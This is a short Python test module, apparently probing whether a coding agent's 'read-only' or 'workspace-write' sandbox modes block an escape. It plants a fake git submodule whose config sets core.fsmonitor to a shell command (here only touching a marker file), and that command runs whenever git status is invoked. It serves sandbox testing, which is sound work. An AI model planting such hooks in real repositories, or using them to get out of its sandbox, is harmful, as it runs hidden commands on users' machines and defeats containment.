"""make a git directory in .git/modules and a submodule that leads to it"""
import os
import subprocess

STOPS = ["read-only", "workspace-write"]


def attempt(bait):
    quiet = dict(check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    head = subprocess.run(["git", "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
    subprocess.run(["git", "init", "-q", "--bare", ".git/modules/part"], **quiet)
    with open(".git/modules/part/config", "a") as config:
        config.write("[core]\n\tbare = false\n\tworktree = ../../../part\n\tfsmonitor = \"touch %s; false\"\n" % bait.pwned)
    os.mkdir("part")
    with open("part/.git", "w") as file:
        file.write("gitdir: ../.git/modules/part\n")
    with open(".gitmodules", "w") as file:
        file.write("[submodule \"part\"]\n\tpath = part\n\turl = ./part\n")
    subprocess.run(["git", "update-index", "--add", "--cacheinfo", "160000,%s,part" % head], **quiet)
    return "planted"


def escaped(bait):
    bait.git("status")
    return bait.executed()
